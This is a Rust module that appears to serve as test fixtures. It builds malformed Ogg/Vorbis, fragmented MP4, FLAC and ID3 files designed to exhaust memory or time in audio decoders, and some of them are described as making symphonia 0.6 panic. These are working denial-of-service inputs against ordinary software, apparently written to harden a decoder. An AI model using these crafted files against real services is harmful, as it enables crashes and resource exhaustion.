//! Files made to hurt whoever decodes them: each is small and legal enough to be read, and costs far more than it should.
#![allow(dead_code)]

/// Ogg/Vorbis whose setup header holds `books` codebooks of 131,072 entries each, all of them of length 17. Each entry takes
/// about 1.2 kB once it is unpacked, and a few bits here.
pub fn vorbis_codebooks(books: u32) -> Vec<u8> {
    vorbis(books, 31)
}

/// Ogg/Vorbis with a codebook whose exponent is out of what the reader counts on: symphonia 0.6 panics.
pub fn vorbis_panic() -> Vec<u8> {
    vorbis(1, 32)
}

fn vorbis(books: u32, dimensions: u32) -> Vec<u8> {
    let mut ident = b"\x01vorbis".to_vec();
    ident.extend(0u32.to_le_bytes());
    ident.push(1);
    ident.extend(24_000u32.to_le_bytes());
    ident.extend([0; 12]);
    ident.extend([8 | 11 << 4, 1]);
    let comment = b"\x03vorbis\x01\0\0\0x\0\0\0\0\x01".to_vec();
    let mut setup = b"\x05vorbis".to_vec();
    let mut bits = Bits::default();
    bits.put(books - 1, 8);
    for _ in 0..books {
        bits.put(0x0056_4342, 24);
        bits.put(dimensions, 16);
        bits.put(131_072, 24);
        // Ordered: from length 17 on, all 131,072 entries.
        bits.put(1, 1);
        bits.put(16, 5);
        bits.put(131_072, 18);
        // Lookup type 1 with one value.
        bits.put(1, 4);
        bits.put(0x6000_0001, 32);
        bits.put(0x6000_0001, 32);
        bits.put(0, 4);
        bits.put(0, 1);
        bits.put(1, 1);
    }
    setup.extend(bits.bytes);
    setup.extend([0; 8]);
    let mut out = Vec::new();
    let mut writer = ogg::PacketWriter::new(&mut out);
    use ogg::PacketWriteEndInfo::{EndPage, EndStream};
    for (packet, end) in [
        (ident, EndPage),
        (comment, EndPage),
        (setup, EndPage),
        (vec![0; 16], EndStream),
    ] {
        writer.write_packet(packet, 7, end, 0).unwrap();
    }
    out
}

/// Writes numbers bit by bit, least significant first, as Vorbis has them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used % 8 == 0 {
                self.bytes.push(0);
            }
            if value >> bit & 1 == 1 {
                *self.bytes.last_mut().unwrap() |= 1 << (self.used % 8);
            }
            self.used += 1;
        }
    }
}

/// A fragmented mp4 with two audio tracks, where the fragment of the second says that 2^32 - 1 samples without a byte follow, `runs` times.
pub fn mp4_empty_samples(runs: usize) -> Vec<u8> {
    let run = full("trun", 0, &u32::MAX.to_be_bytes());
    fragmented(&run.repeat(runs), 0, 100)
}

/// The same with `samples` samples of one byte, each with a duration of its own: time grows with the square of the number.
pub fn mp4_durations(samples: u32) -> Vec<u8> {
    // A data offset of 0 and then the durations.
    let mut run = samples.to_be_bytes().to_vec();
    run.extend([0; 4]);
    run.extend(1u32.to_be_bytes().repeat(samples as usize));
    fragmented(&full("trun", 0x101, &run), 1, samples as usize)
}

/// The same with flags that say that the first sample has a duration and a size of its own, and neither: symphonia 0.6 panics.
pub fn mp4_panic() -> Vec<u8> {
    fragmented(&full("trun", 4, &[0, 0, 0, 2, 0, 0, 3, 0]), 1, 100)
}

fn boxed(kind: &str, body: &[u8]) -> Vec<u8> {
    let mut out = (body.len() as u32 + 8).to_be_bytes().to_vec();
    out.extend(kind.as_bytes());
    out.extend(body);
    out
}

fn full(kind: &str, version_and_flags: u32, body: &[u8]) -> Vec<u8> {
    boxed(kind, &[&version_and_flags.to_be_bytes(), body].concat())
}

fn fragmented(runs: &[u8], sample_size: u32, data: usize) -> Vec<u8> {
    let mut head = 2u32.to_be_bytes().to_vec();
    // Duration 1 and the size of all samples.
    head.extend(1u32.to_be_bytes());
    head.extend(sample_size.to_be_bytes());
    let tfhd = full("tfhd", 0x2_0018, &head);
    let tfdt = full("tfdt", 0, &[0; 4]);
    let traf = boxed("traf", &[&tfhd, &tfdt, runs].concat());
    let moof = boxed("moof", &[full("mfhd", 0, &1u32.to_be_bytes()), traf].concat());
    let ftyp = boxed("ftyp", b"isom\0\0\x02\0isomiso5");
    [ftyp, moov(), moof, boxed("mdat", &vec![0; data])].concat()
}

fn moov() -> Vec<u8> {
    let mut mvhd = vec![0; 8];
    mvhd.extend(1000u32.to_be_bytes());
    mvhd.extend([0; 84]);
    let trex = |track: u32| {
        let mut body = track.to_be_bytes().to_vec();
        body.extend(1u32.to_be_bytes());
        body.extend([0; 12]);
        full("trex", 0, &body)
    };
    let mvex = boxed("mvex", &[trex(1), trex(2)].concat());
    boxed("moov", &[full("mvhd", 0, &mvhd), trak(1), trak(2), mvex].concat())
}

/// A track of AAC (LC, 24 kHz, mono) without samples of its own.
fn trak(track: u32) -> Vec<u8> {
    let specific = b"\x03\x19\0\x01\0\x04\x11\x40\x15\0\0\0\0\0\0\0\0\0\0\0\x05\x02\x13\x08\x06\x01\x02";
    let mut entry = vec![0; 6];
    entry.extend([0, 1]);
    entry.extend([0; 8]);
    entry.extend([0, 1, 0, 16, 0, 0, 0, 0]);
    entry.extend((24_000u32 << 16).to_be_bytes());
    entry.extend(full("esds", 0, specific));
    let stsd = full(
        "stsd",
        0,
        &[&1u32.to_be_bytes()[..], &boxed("mp4a", &entry)].concat(),
    );
    let stbl = [
        stsd,
        full("stts", 0, &[0; 4]),
        full("stsc", 0, &[0; 4]),
        full("stsz", 0, &[0; 8]),
        full("stco", 0, &[0; 4]),
    ];
    let url = full("url ", 1, &[]);
    let dref = full("dref", 0, &[&1u32.to_be_bytes()[..], &url].concat());
    let minf = boxed(
        "minf",
        &[
            full("smhd", 0, &[0; 4]),
            boxed("dinf", &dref),
            boxed("stbl", &stbl.concat()),
        ]
        .concat(),
    );
    let mut mdhd = vec![0; 8];
    mdhd.extend(24_000u32.to_be_bytes());
    mdhd.extend([0, 0, 0, 0, 0x55, 0xc4, 0, 0]);
    let hdlr = full("hdlr", 0, b"\0\0\0\0soun\0\0\0\0\0\0\0\0\0\0\0\0\0");
    let mdia = boxed("mdia", &[full("mdhd", 0, &mdhd), hdlr, minf].concat());
    let mut tkhd = vec![0; 8];
    tkhd.extend(track.to_be_bytes());
    tkhd.extend([0; 68]);
    boxed("trak", &[full("tkhd", 3, &tkhd), mdia].concat())
}

/// FLAC whose comments are tags of two bytes, `blocks` blocks of four megabytes: each tag takes many times that in memory.
pub fn flac_tags(blocks: usize) -> Vec<u8> {
    let tags = 600_000u32;
    let mut comment = 0u32.to_le_bytes().to_vec();
    comment.extend(tags.to_le_bytes());
    comment.extend(b"\x02\0\0\0a=".repeat(tags as usize));
    let mut out = b"fLaC\0\0\0\x22".to_vec();
    // Blocks of 4,096 samples, 24 kHz, mono, 16 bits.
    out.extend([
        0x10, 0, 0x10, 0, 0, 0, 0, 0, 0, 0, 0x05, 0xdc, 0x00, 0xf0, 0, 0, 0, 0,
    ]);
    out.extend([0; 16]);
    for block in 0..blocks {
        out.push(4 | if block + 1 == blocks { 0x80 } else { 0 });
        out.extend(&(comment.len() as u32).to_be_bytes()[1..]);
        out.extend(&comment);
    }
    out
}

/// The head of an ID3v2 tag of `size` bytes.
pub fn id3_head(size: u32) -> Vec<u8> {
    let mut out = b"ID3\x03\0\0".to_vec();
    out.extend([21, 14, 7, 0].map(|shift| (size >> shift & 127) as u8));
    out
}
